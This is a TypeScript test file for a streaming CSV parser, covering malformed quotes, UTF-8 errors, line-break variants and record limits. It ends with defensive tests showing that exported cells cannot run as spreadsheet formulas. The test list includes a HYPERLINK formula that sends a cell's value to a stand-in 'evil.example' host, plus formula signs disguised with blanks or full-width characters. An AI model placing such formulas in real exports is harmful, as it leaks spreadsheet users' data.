import { Readable } from 'node:stream';
import { seededRandom } from '@vanguard/testing';
import { CsvMalformedError, csvLine, CsvRecordTooLongError, neutraliseFormula, parseCsv, restoreFormula } from './csv';

async function all(chunks: (string | Buffer)[]): Promise<string[][]> {
  const out: string[][] = [];
  for await (const r of parseCsv(Readable.from(chunks))) out.push(r);
  return out;
}

/** Characters the reader looked at to read `text` cut into `chunk`-sized pieces. */
async function scannedFor(text: string, chunk: number): Promise<{ scanned: number; records: number }> {
  const pieces: string[] = [];
  for (let i = 0; i < text.length; i += chunk) pieces.push(text.slice(i, i + chunk));
  let scanned = 0;
  let records = 0;
  for await (const _ of parseCsv(Readable.from(pieces), { maxRecordChars: text.length + 1, onScan: (n) => (scanned += n) })) records++;
  return { scanned, records };
}

describe(parseCsv.name, () => {
  it('reads a file ending in a DOS end-of-file mark (Ctrl-Z) as the same file without it, wherever the chunks are cut', async () => {
    const files: [string, string[][]][] = [
      [
        'org_code,name\r\n1301,张三\r\n\u001a',
        [
          ['org_code', 'name'],
          ['1301', '张三'],
        ],
      ],
      [
        'org_code,name\r\n1301,张三\u001a',
        [
          ['org_code', 'name'],
          ['1301', '张三'],
        ],
      ],
      [
        '"org_code","name"\r\n"1301","张三"\u001a',
        [
          ['org_code', 'name'],
          ['1301', '张三'],
        ],
      ],
      [
        '"org_code","name"\r\n"1301","张三"\r\u001a',
        [
          ['org_code', 'name'],
          ['1301', '张三'],
        ],
      ],
      ['"a","b"\u001a', [['a', 'b']]],
    ];
    for (const [text, rows] of files) {
      const bytes = Buffer.from(text, 'utf8');
      // Every cut into two chunks, as text and as bytes (uploads arrive as bytes).
      for (let cut = 0; cut <= text.length; cut++) expect(await all([text.slice(0, cut), text.slice(cut)])).toEqual(rows);
      for (let cut = 0; cut <= bytes.length; cut++) expect(await all([bytes.subarray(0, cut), bytes.subarray(cut)])).toEqual(rows);
    }
  });

  it('keeps a Ctrl-Z anywhere but at the very end as its cell’s (the text rule then refuses it), and refuses one after a closing quote', async () => {
    expect(await all(['a,b\n1,张\u001a三\n'])).toEqual([
      ['a', 'b'],
      ['1', '张\u001a三'],
    ]);
    expect(await all(['a,b\n1,张三\u001a\u001a'])).toEqual([
      ['a', 'b'],
      ['1', '张三\u001a'],
    ]);
    for (const chunks of [['a,b\n1,"张三"\u001a\n'], ['a,b\n1,"张三"\u001a', 'x\n'], ['a,b\n1,"张三"\u001a\u001a']])
      await expect(all(chunks)).rejects.toThrow(/closing quote/);
  });

  it('refuses a character after a closing quote, naming the record, instead of shifting the columns', async () => {
    // `a,"abc"x,z` used to read as ["a","abc","","z"]: every later column one to the right.
    for (const chunks of [['h1,h2,h3\r\na,"abc"x,z\r\n'], ['h1,h2,h3\r\na,"abc"', 'x,z\r\n'], ['h1,h2,h3\na,"abc" ,z']]) {
      const error = await all(chunks).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(CsvMalformedError);
      expect((error as CsvMalformedError).row).toBe(2);
      expect((error as Error).message).toMatch(/^第 2 行/);
    }
  });

  it('refuses a quote never closed, naming the record it opens in, instead of folding the rest of the file into one cell', async () => {
    for (const chunks of [['org_code,name\r\n1301,"张三\r\n1302,李四\r\n'], ['org_code,name\r\n1301,"张', '三\r\n1302,李四']]) {
      const error = await all(chunks).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(CsvMalformedError);
      expect(error).toMatchObject({ row: 2, message: expect.stringMatching(/unclosed quote/) });
    }
  });

  it('refuses bytes that are not UTF-8 anywhere in the file, not only in the part the upload sniffed', async () => {
    const good = Buffer.from(`${'名,b\n'.repeat(20_000)}`, 'utf8');
    const bad = Buffer.from([0x31, 0x2c, 0xba, 0xec, 0x0a]); // GBK 红 after 140 KB of UTF-8
    const cutInside = Buffer.from('张', 'utf8').subarray(0, 2); // a character the file ends inside

    for (const tail of [bad, cutInside]) {
      const read = async () => {
        for await (const _ of parseCsv(Readable.from([good.subarray(0, 70_000), good.subarray(70_000), tail])));
      };
      await expect(read()).rejects.toThrow(CsvMalformedError);
      await expect(read()).rejects.toThrow(/not valid UTF-8 after byte/);
    }
  });

  it('names the byte where the file stops being UTF-8, wherever the chunks are cut (seeded, 400 files)', async () => {
    // Known answers: valid rows of 1- to 4-byte characters, then one of the sequences the WHATWG
    // decoder refuses at a character boundary the test chose, so the offset is known, not recomputed.
    const refused = [
      [0x80],
      [0xbf, 0x41],
      [0xc0, 0xaf],
      [0xc1, 0xbf],
      [0xf5, 0x80],
      [0xff],
      [0xe0, 0x80, 0x80],
      [0xed, 0xa0, 0x80],
      [0xf0, 0x80, 0x80, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0xe4, 0xb8, 0x2c],
      [0xf0, 0x9f, 0x98, 0x0a],
      [0xc3, 0x41],
    ];
    const characters = ['a', ',', '\n', 'é', '名', '红', '𠀀', '😀'];
    const random = seededRandom(20261205);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)]!;
    for (let file = 0; file < 400; file++) {
      let text = '';
      const length = Math.floor(random() * 300);
      for (let i = 0; i < length; i++) text += pick(characters);
      const good = Buffer.from(`名,b\n${text}`, 'utf8');
      const endsInside = file % 5 === 0;
      // A file that ends inside a character: a 2- to 4-byte character cut short.
      const whole = Buffer.from(pick(['é', '名', '😀']), 'utf8');
      const bad = endsInside ? whole.subarray(0, 1 + Math.floor(random() * (whole.length - 1))) : Buffer.from(pick(refused));
      const bytes = Buffer.concat([good, bad, endsInside ? Buffer.alloc(0) : Buffer.from('x,y\n', 'utf8')]);
      const chunks: Buffer[] = [];
      for (let at = 0; at < bytes.length;) {
        const size = 1 + Math.floor(random() * 40);
        chunks.push(bytes.subarray(at, at + size));
        at += size;
      }
      const read = async () => {
        for await (const _ of parseCsv(Readable.from(chunks)));
      };
      await expect(read()).rejects.toThrow(new RegExp(`not valid UTF-8 after byte ${good.length};`));
    }
  });

  it('reads a lone CR as a line break (Excel for Mac), and a CRLF cut between chunks as one break', async () => {
    const rows = [
      ['org_code', 'name'],
      ['1301', '张三'],
      ['1302', '李,四'],
    ];
    // Before, a CR-only file read as one record: its header swallowed every data row.
    for (const chunks of [
      ['org_code,name\r1301,张三\r1302,"李,四"\r'],
      ['org_code,name\r', '1301,张三\r1302,"李,四"'],
      ['org_code,name\r\n1301,张三\r', '\n1302,"李,四"\r\n'],
      ['org_code,name\r\n1301,张三\r1302,"李,四"\n'],
    ])
      expect([chunks, await all(chunks)]).toEqual([chunks, rows]);
  });

  it('counts records, not lines, when naming the malformed one', async () => {
    await expect(all(['h\n"two\nlines"\n"ok"\n"bad"!\n'])).rejects.toMatchObject({ row: 4 });
  });

  it('reads quoted fields with commas, doubled quotes and line breaks split across chunks', async () => {
    const rows = await all(['\ufeffa,b,c\r\n1,"x, ""y""', '",3\r\n', '4,"multi\nline",6']);
    expect(rows).toEqual([
      ['a', 'b', 'c'],
      ['1', 'x, "y"', '3'],
      ['4', 'multi\nline', '6'],
    ]);
  });

  it('reads a last line without a line break and a UTF-8 character split across byte chunks', async () => {
    const bytes = Buffer.from('名,b\n张红梅,2', 'utf8');
    const out: string[][] = [];
    for await (const r of parseCsv(Readable.from([bytes.subarray(0, 5), bytes.subarray(5)]))) out.push(r);
    expect(out).toEqual([
      ['名', 'b'],
      ['张红梅', '2'],
    ]);
  });

  it('round-trips what csvLine writes', async () => {
    const values = ['张红梅', 'a,b', 'say "hi"', '', '2010-07-01'];
    expect(await all([csvLine(values)])).toEqual([values]);
  });

  it('scans a record spread over many chunks a bounded number of times, not once per chunk', async () => {
    // One 4 MB quoted field read in 4 KB chunks: the old reader rescanned it from its start on each of the 1,024 chunks.
    const field = 'x'.repeat(4 * 1024 * 1024);
    const text = `a,"${field}"\r\nb,c\r\n`;

    const { scanned, records } = await scannedFor(text, 4 * 1024);

    expect(records).toBe(2);
    expect(scanned).toBeLessThanOrEqual(3 * text.length);
  });

  it('scans a file of many short records about once, whatever the chunk size', async () => {
    const lines = (n: number) =>
      Array.from({ length: n }, (_, i) => csvLine([`9104251012${i}`, `成员${i}`, 'full', '2001-07-01'])).join('');
    // Tiny chunks cut every record into several (3,000 records are about 16,000 chunks of 7); big ones
    // hold hundreds of records each, where a rescan per record would show.
    for (const [chunk, n] of [
      [7, 3_000],
      [100, 20_000],
      [65_536, 20_000],
    ] as const) {
      const text = lines(n);
      const { scanned, records } = await scannedFor(text, chunk);
      expect(records).toBe(n);
      expect(scanned).toBeLessThanOrEqual(3 * text.length);
    }
  });

  it('refuses a record longer than the limit instead of buffering it', async () => {
    const text = `a,"${'y'.repeat(10_000)}`;
    const read = async () => {
      for await (const _ of parseCsv(Readable.from([text.slice(0, 5000), text.slice(5000)]), { maxRecordChars: 1000 }));
    };
    await expect(read()).rejects.toBeInstanceOf(CsvRecordTooLongError);
  });

  it('names the row of the record that is too long, whichever chunk ends it', async () => {
    for (const final of [false, true]) {
      const text = `name,note\n短,ok\n长,"${'y'.repeat(3000)}"${final ? '' : '\nnext,row\n'}`;
      const read = async () => {
        for await (const _ of parseCsv(Readable.from([text.slice(0, 20), text.slice(20)]), { maxRecordChars: 1000 }));
      };
      await expect(read()).rejects.toMatchObject({ row: 3, message: expect.stringContaining('row 3') });
    }
  });
});

describe(neutraliseFormula.name, () => {
  const NASTY = [
    '=HYPERLINK("http://evil.example/?"&G2,"点我")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\u3000 @SUM(A1)',
    '＝HYPERLINK("http://evil.example")',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "' =1",
    "'=already quoted",
    "''=twice",
    "'plain quote",
    "'",
    '张=红梅',
    '',
  ];

  /** What a spreadsheet runs: past the blanks it skips, a formula sign or a form NFKC folds to one. */
  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell.replace(/^[\s\u00a0\u200b\ufeff]+/, '').normalize('NFKC'));

  it.each(NASTY)('writes %j so no spreadsheet runs it, and reads it back unchanged', async (name) => {
    const [row] = await all([csvLine([name, 'x'])]);
    const cell = row![0]!;

    expect(runnable(cell)).toBe(false);
    expect(restoreFormula(cell)).toBe(name);
  });

  it('leaves ordinary text, dates and codes as they are', () => {
    for (const s of ['张红梅', '2001-07-01', '910425101', "O'Brien", ' 张红梅', '1+1']) expect(neutraliseFormula(s)).toBe(s);
  });

  it('reads back whatever it writes: export then import is the identity over many generated cells', async () => {
    const alphabet = [
      "'",
      "'",
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ' ',
      '\u00a0',
      '\u200b',
      '\ufeff',
      '＝',
      '＋',
      '﹦',
      '＠',
      'a',
      '张',
      '"',
      ',',
    ];
    let seed = 20260101;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const cells = Array.from({ length: 5_000 }, () =>
      Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join(''),
    );

    const rows = await all(cells.map((c) => csvLine([c])));

    expect(rows.map((r) => restoreFormula(r[0]!))).toEqual(cells);
    for (const r of rows) expect([r[0], runnable(r[0]!)]).toEqual([r[0], false]);
  });
});
